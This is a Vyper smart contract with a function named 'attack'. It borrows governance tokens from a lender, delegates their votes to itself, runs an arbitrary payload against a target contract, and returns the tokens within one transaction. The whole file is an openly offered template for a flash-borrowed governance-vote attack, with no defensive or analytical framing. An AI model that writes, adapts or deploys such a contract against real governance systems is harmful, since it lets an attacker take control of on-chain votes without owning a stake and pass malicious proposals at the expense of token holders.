# pragma version 0.4.3
"""
@title Borrows votes, uses them and gives them back, all in one transaction
@license AGPL-3.0-only
"""

from ethereum.ercs import IERC20

interface Votes:
    def delegate(delegatee: address): nonpayable


@external
def attack(token: address, lender: address, amount: uint256, target: address, payload: Bytes[4096]):
    """
    @param payload What is tried with the borrowed votes.
    """
    extcall IERC20(token).transferFrom(lender, self, amount)
    extcall Votes(token).delegate(self)
    raw_call(target, payload)
    extcall IERC20(token).transfer(lender, amount)
